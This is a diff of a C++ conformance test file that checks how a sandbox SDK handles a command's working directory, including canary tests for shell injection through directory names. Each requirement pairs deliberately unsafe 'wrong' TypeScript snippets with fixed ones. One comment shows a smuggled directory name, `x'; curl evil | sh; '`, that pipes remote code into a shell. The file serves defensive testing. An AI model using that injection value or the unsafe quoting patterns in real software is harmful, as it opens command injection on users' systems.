@@ -1,8 +1,11 @@
+#include <optional>
 #include <string>
 #include <vector>
 
 #include "conformance/check_context.h"
 #include "conformance/checks/parts.h"
+#include "conformance/checks/probes.h"
+#include "conformance/checks/programs.h"
 #include "conformance/checks/values.h"
 
 // The option `cwd`: where a command starts.
@@ -10,21 +13,26 @@ namespace computesdk::conformance {
 namespace {
 
 using ::testing::Eq;
+using ::testing::HasSubstr;
 using ::testing::IsFalse;
 using ::testing::Ne;
 
-// A directory in the box, with a file `marker` that holds `content`.
-std::string MakeDirectory(CheckContext& ctx, const std::string& name, const std::string& content) {
-  const std::string path = ctx.box().Path(name);
-  const std::string quoted = ShellQuote(path);
-  ctx.Observe(ctx.box(), "mkdir -p -- " + quoted + " && printf '%s' " + ShellQuote(content) +
-                             " > " + quoted + "/marker");
+// Lines that make a directory with a file `marker` that holds `content`.
+std::string MakeMarked(const std::string& path, const std::string& content) {
+  return MakeDirectory(path) + " && printf '%s' " + ShellQuote(content) + " > " + ShellQuote(path) +
+         "/marker";
+}
+
+// Makes such a directory in the box.
+std::string PutDirectory(CheckContext& ctx, const std::string& name, const std::string& content) {
+  std::string path = ctx.box().Path(name);
+  Prepare(ctx, ctx.box(), {MakeMarked(path, content)});
   return path;
 }
 
 void CwdIsUsed(CheckContext& ctx) {
   const Box& box = ctx.box();
-  const std::string dir = MakeDirectory(ctx, "sub", "in sub");
+  const std::string dir = PutDirectory(ctx, "sub", "in sub");
   {
     const auto scope = ctx.Case("a shell line");
     const ExecutionResult result =
@@ -46,30 +54,39 @@ void CwdIsUsed(CheckContext& ctx) {
 
 void CwdMayHaveAnyName(CheckContext& ctx) {
   const Box& box = ctx.box();
+  std::vector<std::string> lines;
+  for (const NamedValue& value : AwkwardTexts()) {
+    lines.push_back(MakeMarked(box.Path(value.bytes), value.label));
+  }
+  Prepare(ctx, box, lines);
   for (const NamedValue& value : AwkwardTexts()) {
     const auto scope = ctx.Case(value.label, " in its name");
-    const std::string dir = MakeDirectory(ctx, value.bytes, value.label);
-    const ExecutionResult result = ctx.Must(ctx.Sh(box, "cat marker", {.cwd = dir}));
+    const ExecutionResult result =
+        ctx.Must(ctx.Sh(box, "cat marker", {.cwd = box.Path(value.bytes)}));
     ctx.ExpectBytes(result.stdout_bytes, value.label, "stdout of `cat marker`");
+  }
+  for (const std::string spelling : {"/", "/.", "//", "/../it's"}) {
+    const auto scope = ctx.Case("a path that ends in ", spelling);
+    const ExecutionResult result =
+        ctx.Must(ctx.Sh(box, "cat marker", {.cwd = box.Path("it's") + spelling}));
+    ctx.ExpectBytes(result.stdout_bytes, "a single quote", "stdout of `cat marker`");
   }
 }
 
 void CwdExecutesNothing(CheckContext& ctx) {
   const Box& box = ctx.box();
-  const std::string canary = box.Path("canary");
-  const std::string command = "printf x > " + BackslashQuote(canary);
-  ctx.Need(ctx.Sh(box, command), "making a canary on purpose");
-  if (!ctx.PathIsThere(box, canary)) ctx.NotTestable("a canary made on purpose was not seen");
-  ctx.Observe(box, "rm " + ShellQuote(canary));
-  for (const NamedValue& value : Injections(command)) {
-    const auto scope = ctx.Case(value.label);
-    const std::string cwd = box.dir + "/" + value.bytes;
+  Canaries canaries(ctx, box, Injections("").size());
+  std::vector<NamedValue> values;
+  for (std::size_t i = 0; i < canaries.commands().size(); ++i) {
+    values.push_back(Injections(canaries.commands()[i])[i]);
     // Whether it fails there is a requirement of its own.
-    (void)ctx.Sh(box, ":", {.cwd = cwd});
-    if (!ctx.Expect(ctx.PathIsThere(box, canary), IsFalse(),
-                    "whether the cwd " + Printable(cwd) + " was executed")) {
-      ctx.Observe(box, "rm " + ShellQuote(canary));
-    }
+    (void)ctx.Sh(box, ":", {.cwd = box.dir + "/" + values.back().bytes});
+  }
+  const std::vector<bool> executed = canaries.Look();
+  for (std::size_t i = 0; i < values.size(); ++i) {
+    const auto scope = ctx.Case(values[i].label);
+    ctx.Expect(executed[i], IsFalse(),
+               "whether the cwd DIR/" + Printable(values[i].bytes) + " was executed");
   }
 }
 
@@ -77,11 +94,13 @@ void CwdExecutesNothing(CheckContext& ctx) {
 void ExpectRefused(CheckContext& ctx, const std::string& cwd) {
   const Box& box = ctx.box();
   const std::string canary = box.Path("canary");
-  const std::string line = "printf x > " + ShellQuote(canary);
+  // Two commands: a failing `cd` before the line may stop only the first.
+  const std::string line = ":; printf x > " + ShellQuote(canary);
   ctx.Must(ctx.Sh(box, line, {.cwd = box.dir}), "the command in a directory that is there");
   if (!ctx.PathIsThere(box, canary)) ctx.NotTestable("a canary made on purpose was not seen");
   for (const bool with_args : {false, true}) {
     const auto scope = ctx.Case(with_args ? "a program with args" : "a shell line");
+    if (with_args) NeedPrograms(ctx, box);
     ctx.Observe(box, "rm -f " + ShellQuote(canary));
     const Result<ExecutionResult> result = with_args
                                                ? ctx.Exec(box, "sh", {"-c", line}, {.cwd = cwd})
@@ -93,6 +112,17 @@ void ExpectRefused(CheckContext& ctx, const std::string& cwd) {
 
 void MissingCwdFails(CheckContext& ctx) { ExpectRefused(ctx, ctx.box().Path("no such directory")); }
 
+void MissingCwdIsNamed(CheckContext& ctx) {
+  const std::string name = "missing-" + ctx.Unique();
+  const Result<ExecutionResult> result =
+      ctx.Sh(ctx.box(), "printf ran", {.cwd = ctx.box().Path(name)});
+  if (result && result->exit_code == 0) {
+    ctx.NotTestable("a missing directory is no failure: see command.cwd.missing");
+  }
+  const std::string& text = result ? result->stderr_bytes : result.error().message;
+  ctx.Expect(text, HasSubstr(name), result ? "stderr" : "the error's message");
+}
+
 void FileAsCwdFails(CheckContext& ctx) {
   const std::string path = ctx.box().Path("file");
   ctx.PutFile(ctx.box(), path, "x");
@@ -102,25 +132,27 @@ void FileAsCwdFails(CheckContext& ctx) {
 void CwdEndsWithItsCommand(CheckContext& ctx) {
   const Box& box = ctx.box();
   const std::string name = "kit-" + ctx.Unique();
-  const std::string dir = MakeDirectory(ctx, "sub", "x");
+  const std::string dir = PutDirectory(ctx, "sub", "x");
   ctx.Must(ctx.Sh(box, "printf x > " + name, {.cwd = dir}), "a command with a cwd");
-  if (!ctx.PathIsThere(box, dir + "/" + name)) ctx.NotTestable("cwd is not used at all");
+  // At once: a look at the file would be a command, too.
   const ExecutionResult next =
       ctx.Must(ctx.Sh(box, "test -e " + name + " && printf there || printf elsewhere"),
                "the next command, without a cwd");
+  if (!ctx.PathIsThere(box, dir + "/" + name)) ctx.NotTestable("cwd is not used at all");
   ctx.ExpectBytes(next.stdout_bytes, "elsewhere", "where the next command started");
 }
 
 void RemovedCwdHarmsNoLaterCommand(CheckContext& ctx) {
   const Box& box = ctx.box();
-  const std::string dir = MakeDirectory(ctx, "gone", "x");
+  const std::string dir = PutDirectory(ctx, "gone", "x");
+  const std::string other = PutDirectory(ctx, "other", "here");
   ctx.Must(ctx.Sh(box, "rm -rf " + ShellQuote(dir) + "; printf x", {.cwd = dir}),
            "a command that removes its cwd");
-  const std::string other = MakeDirectory(ctx, "other", "here");
-  const ExecutionResult with = ctx.Must(ctx.Sh(box, "cat marker", {.cwd = other}));
-  ctx.ExpectBytes(with.stdout_bytes, "here", "stdout of the next command, with a cwd");
-  const ExecutionResult without = ctx.Must(ctx.Sh(box, "printf ok"));
+  const ExecutionResult without = ctx.Must(ctx.Sh(box, "printf ok"), "the next command");
   ctx.ExpectBytes(without.stdout_bytes, "ok", "stdout of the next command, without a cwd");
+  const ExecutionResult with =
+      ctx.Must(ctx.Sh(box, "cat marker", {.cwd = other}), "the one after it");
+  ctx.ExpectBytes(with.stdout_bytes, "here", "stdout of the one after it, with a cwd");
 }
 
 }  // namespace
@@ -132,17 +164,27 @@ std::vector<Requirement> CommandCwdRequirements() {
        .level = Level::kOptional,
        .capability = cwd,
        .asks = "A command with a cwd starts there: lines, all parts of them, and programs.",
-       .why = "An ignored cwd runs `rm -rf build` in another project. A `cd DIR &&` that is put "
-              "before the line binds its first command only, or not those with args.",
+       .why = "An ignored cwd runs `rm -rf build` in another project.",
+       .breaks = "The option is accepted and dropped; or it is made of text (`cd DIR && `) that "
+                 "only the way with a line gets, not the one with args.",
+       .wrong = R"(if (args) return sandbox.exec([command, ...args]);
+return sandbox.run(`cd ${shellQuote(options.cwd)} && ${command}`);)",
+       .right = R"(const argv = args ? [command, ...args] : ['sh', '-c', command];
+return sandbox.exec(argv, { workingDir: options.cwd });)",
        .defects = {"C44"},
-       .mend = "Hand cwd to the backend's own option; else run `sh -c 'cd \"$1\" && exec …'` with "
-               "the directory as an argument.",
+       .mend = "Hand cwd to the backend's own option; else run `sh -c 'cd -- \"$1\" && shift && "
+               "exec \"$@\"' sh DIR PROGRAM ARGS…`, with the directory as an argument.",
        .check = CwdIsUsed},
       {.id = "command.cwd.names",
        .level = Level::kOptional,
        .capability = cwd,
        .asks = "A cwd with blanks, quotes, $, *, newlines or a leading dash in its name is used.",
-       .why = "`cd ${cwd} && …` without quotes goes elsewhere, or nowhere, for such a name.",
+       .why = "\"/home/me/My Project\" is where people work.",
+       .breaks = "`cd ${cwd} && …` without quotes, or with double ones: it goes elsewhere, or "
+                 "nowhere, for such a name.",
+       .wrong = R"(return sandbox.run(`cd "${options.cwd}" && ${command}`); // "$HOME", a", `x`)",
+       .right = R"(const script = 'cd -- "$1" && exec sh -c "$2"';
+return sandbox.exec(['sh', '-c', script, 'sh', options.cwd, command]);)",
        .defects = {"C45", "F27", "F26"},
        .mend = "Hand cwd over as an argument or an option, not as text of a shell line.",
        .check = CwdMayHaveAnyName},
@@ -152,6 +194,11 @@ std::vector<Requirement> CommandCwdRequirements() {
        .asks = "Nothing in a cwd is ever executed.",
        .why = "Names of directories come from repositories and models; one that closes a quote "
               "runs what follows.",
+       .breaks = "The directory is put into a line between quotes that it can close, or in which "
+                 "$(…) still works.",
+       .wrong = R"(const line = `cd '${options.cwd}' && ${command}`; // x'; curl evil | sh; ')",
+       .right = R"(const quote = (s: string) => "'" + s.replaceAll("'", "'\\''") + "'";
+const line = `cd -- ${quote(options.cwd)} || exit\n${command}`;)",
        .defects = {"C45", "F27", "C2"},
        .mend = "Hand cwd over as an argument or an option, not as text of a shell line.",
        .check = CwdExecutesNothing},
@@ -159,16 +206,46 @@ std::vector<Requirement> CommandCwdRequirements() {
        .level = Level::kOptional,
        .capability = cwd,
        .asks = "In a directory that is missing the command fails, and does not run elsewhere.",
-       .why = "`cd DIR; LINE` goes on in the wrong place when `cd` fails; some backends fall back "
-              "to the root directory without a word.",
+       .why =
+           "A line that was meant for a scratch directory deletes and overwrites in another one.",
+       .breaks =
+           "`cd DIR; LINE`, or `cd DIR && LINE` before a line of several commands, goes on in "
+           "the wrong place when `cd` fails; some backends fall back to /, others make the "
+           "directory.",
+       .wrong =
+           R"(return sandbox.run(`cd ${shellQuote(cwd)} && ${command}`); // of `a; b`, b runs)",
+       .right = R"(return sandbox.run(`cd -- ${shellQuote(cwd)} || exit 1\n${command}`);)",
        .defects = {"C44"},
-       .mend = "Use `&&`, not `;`, after `cd`; return the failure as an error or a non-zero code.",
+       .mend = "Let nothing run after a `cd` that failed; return the failure as an error or a "
+               "non-zero code.",
        .check = MissingCwdFails},
+      {.id = "command.cwd.missing-named",
+       .level = Level::kRecommended,
+       .capability = cwd,
+       .asks = "The failure of a missing cwd says which directory it was.",
+       .why = "\"No such file or directory\" could be the program, a file of the line, or the "
+              "directory; only the last one is the caller's option.",
+       .breaks = "The backend's error is replaced by a text of the adapter's own; or the start of "
+                 "the shell fails, and the message names the shell.",
+       .wrong =
+           R"(if (!(await sandbox.exists(cwd))) throw new Error('Invalid working directory');)",
+       .right = R"(if (!(await sandbox.exists(cwd))) {
+  throw new SandboxError('INVALID_ARGUMENT', `cwd ${cwd}: no such directory`);
+})",
+       .defects = {"E4", "C44"},
+       .mend = "Put the path into the message, or keep that of `cd`.",
+       .check = MissingCwdIsNamed},
       {.id = "command.cwd.file",
        .level = Level::kOptional,
        .capability = cwd,
        .asks = "With a file for its cwd the command fails, and does not run elsewhere.",
-       .why = "A check that only asks whether the path exists lets it through.",
+       .why = "A path that was mistaken must not become another one.",
+       .breaks = "A check that only asks whether the path exists lets it through, and what then "
+                 "fails is caught and ignored.",
+       .wrong = R"(const cwd = (await sandbox.exists(options.cwd)) ? options.cwd : undefined;
+return sandbox.exec(argv, { workingDir: cwd ?? dirname(options.cwd) });)",
+       .right =
+           R"(return sandbox.exec(argv, { workingDir: options.cwd }); // ENOTDIR is the answer)",
        .defects = {"C44"},
        .mend = "Let the change of directory itself fail, and report that.",
        .check = FileAsCwdFails},
@@ -176,7 +253,11 @@ std::vector<Requirement> CommandCwdRequirements() {
        .level = Level::kOptional,
        .capability = cwd,
        .asks = "A cwd is for its own command: the next one starts where all start.",
-       .why = "With one shell for all commands, the `cd` stays.",
+       .why = "Two callers who share a sandbox must not move each other around.",
+       .breaks = "The option is kept as a setting of the sandbox or of its shell.",
+       .wrong = R"(if (options.cwd) this.sandbox.cwd = options.cwd;
+return this.sandbox.exec(argv);)",
+       .right = R"(return this.sandbox.exec(argv, { workingDir: options.cwd ?? this.workdir });)",
        .defects = {"C38", "C44"},
        .mend = "Start a process for each command, with its own directory.",
        .check = CwdEndsWithItsCommand},
@@ -184,7 +265,13 @@ std::vector<Requirement> CommandCwdRequirements() {
        .level = Level::kOptional,
        .capability = cwd,
        .asks = "A command that removes its cwd leaves later commands working.",
-       .why = "A backend that stays in the last directory cannot start anything from there.",
+       .why = "Work in a temporary directory ends with its removal, and the sandbox is to be used "
+              "again.",
+       .breaks = "A backend that stays in the last directory cannot start anything from there: "
+                 "getcwd fails before the line runs.",
+       .wrong = R"(process.chdir(options.cwd); // the agent itself
+return spawnSync('sh', ['-c', line]);)",
+       .right = R"(return spawnSync('sh', ['-c', line], { cwd: options.cwd }); // the child alone)",
        .defects = {"C46"},
        .mend = "Start each command from a directory that stays, and change to cwd in the child.",
        .sandbox = SandboxNeed::kFresh,
